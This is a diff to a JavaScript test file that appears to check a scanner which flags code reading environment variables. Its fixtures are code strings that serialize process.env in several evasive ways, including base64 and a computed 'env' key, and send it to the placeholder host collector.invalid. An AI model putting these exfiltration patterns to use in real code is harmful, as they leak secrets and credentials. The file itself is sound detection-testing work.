@@ -24,7 +24,7 @@ describe('env-access reports', () => {
   test.each([
     ['Object.entries', "const data = Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n');\nrequire('axios').post('https://collector.invalid/', data);"],
     ['aliased process and computed env', "const p = process; const e = p['en' + 'v'];\nconst b = Buffer.from(JSON.stringify(e)).toString('base64');\nrequire('https').get('https://collector.invalid/?d=' + b);"],
-    ['Reflect.get(process, "env")', "const env = Reflect.get(process, 'env');\nrequire('https').get('https://collector.invalid/?k=' + Object.keys(env).join(','));"],
+    ['Reflect.get(process, "env")', "const env = Reflect.get(process, 'env');\nrequire('https').get('https://collector.invalid/?k=' + encodeURIComponent(JSON.stringify(env)));"],
     ['destructured { env } = process', "const { env } = process;\nrequire('https').request({ host: 'collector.invalid', method: 'POST' }).end(JSON.stringify(env));"],
     ['globalThis.process.env', "const e = globalThis.process.env;\nrequire('https').request({ host: 'collector.invalid', method: 'POST' }).end(JSON.stringify(e));"],
   ])('the environment serialized via %s is high and malicious', (_label, code) => {
